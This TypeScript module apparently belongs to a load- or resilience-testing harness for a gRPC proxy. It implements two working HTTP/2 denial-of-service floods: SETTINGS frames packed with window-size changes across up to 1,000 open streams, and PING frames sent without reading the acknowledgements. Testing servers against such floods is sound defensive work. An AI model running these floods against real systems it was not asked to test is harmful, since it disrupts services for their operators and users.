/**
 * HTTP/2 control-frame floods against the gRPC listener (RFC 9113 §6.5,
 * §6.7): SETTINGS frames packed with INITIAL_WINDOW_SIZE entries while many
 * streams are open (each entry adjusts every open stream's window), and
 * PING frames from a client that never reads the ACKs.
 */
import type net from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import {
  drained,
  reconnecting,
  Tracker,
  turn,
  type Attack,
  type AttackOutcome,
  type Target,
} from './kit.js';
import {
  allowedStreams,
  clientPreface,
  FLAG,
  frame,
  FRAME,
  grpcRequestBlock,
  newEncoder,
  settingsFrame,
  SETTING,
  UNARY_PATH,
  watch,
} from './h2-wire.js';

export const SETTINGS_CONNECTIONS = 1;
/** Entries per SETTINGS frame: 2,730 x 6 bytes fill a 16,384-byte frame. */
export const SETTINGS_ENTRIES = 2730;
/** Streams opened before the flood, at most (fewer when the proxy advertises a lower limit). */
const SETTINGS_OPEN_STREAMS = 1000;
/** SETTINGS frames per write. */
const SETTINGS_BATCH = 4;

export const PING_CONNECTIONS = 2;
/** PING frames per write. */
const PING_BATCH = 1000;
/** How long the ping attacker reads at the end to find a GOAWAY the proxy sent. */
const LATE_READ_MS = 300;

/** Opens up to SETTINGS_OPEN_STREAMS Unary calls that wait for a body, then floods SETTINGS. */
async function settingsPass(
  socket: net.Socket,
  target: Target,
  tracker: Tracker,
  signal: AbortSignal,
) {
  const watched = watch(socket, tracker);
  const streams = await allowedStreams(socket, watched, SETTINGS_OPEN_STREAMS);
  const encoder = newEncoder();
  const opening: Buffer[] = [];
  for (let i = 0, id = 1; i < streams; i++, id += 2) {
    opening.push(
      frame(
        FRAME.HEADERS,
        FLAG.END_HEADERS,
        id,
        grpcRequestBlock(encoder, target.port, UNARY_PATH),
      ),
    );
  }
  socket.write(Buffer.concat(opening));
  tracker.count('streams', streams);
  // Every entry changes the window (65,535 and 65,536 in turn), so none is a no-op.
  const entries = Array.from(
    { length: SETTINGS_ENTRIES },
    (_, i) => [SETTING.INITIAL_WINDOW_SIZE, 65_535 + (i % 2)] as const,
  );
  const batch = Buffer.concat(Array.from({ length: SETTINGS_BATCH }, () => settingsFrame(entries)));
  while (!signal.aborted && socket.writable && !watched.goaway) {
    socket.write(batch);
    tracker.count('settingsFrames', SETTINGS_BATCH);
    await drained(socket, signal);
    await turn();
  }
}

export const settingsFlood: Attack = {
  id: 'h2-settings-flood',
  family: 'grpc',
  summary: `${SETTINGS_CONNECTIONS} connection: up to ${SETTINGS_OPEN_STREAMS} open streams, then SETTINGS frames of ${SETTINGS_ENTRIES} INITIAL_WINDOW_SIZE entries as fast as accepted, reconnecting when closed`,
  async run(target, signal): Promise<AttackOutcome> {
    const tracker = new Tracker(target.port);
    await reconnecting(tracker, SETTINGS_CONNECTIONS, signal, (socket) =>
      settingsPass(socket, target, tracker, signal),
    );
    return tracker.finish();
  },
};

/** PINGs as fast as the proxy takes them, reading nothing; at the end, reads what arrived. */
async function pingPass(socket: net.Socket, tracker: Tracker, signal: AbortSignal): Promise<void> {
  socket.pause();
  socket.write(clientPreface());
  const pings = Buffer.concat(
    Array.from({ length: PING_BATCH }, () => frame(FRAME.PING, 0, 0, Buffer.alloc(8))),
  );
  // Bounded by time: the proxy closing, or the attack ending, stops the loop.
  while (!signal.aborted && socket.writable) {
    socket.write(pings);
    tracker.count('pingsSent', PING_BATCH);
    await drained(socket, signal);
    await turn();
  }
  if (socket.destroyed) return;
  // What the proxy wrote meanwhile (ACKs, perhaps a GOAWAY) is read only now.
  watch(socket, tracker, false);
  socket.resume();
  await sleep(LATE_READ_MS);
}

export const pingFlood: Attack = {
  id: 'h2-ping-flood',
  family: 'grpc',
  summary: `${PING_CONNECTIONS} connections: PING frames (${PING_BATCH} per write) as fast as accepted, never reading the ACKs`,
  async run(target, signal): Promise<AttackOutcome> {
    const tracker = new Tracker(target.port);
    await reconnecting(tracker, PING_CONNECTIONS, signal, (socket) =>
      pingPass(socket, tracker, signal),
    );
    return tracker.finish();
  },
};

export const H2_FLOOD_ATTACKS: readonly Attack[] = [settingsFlood, pingFlood];
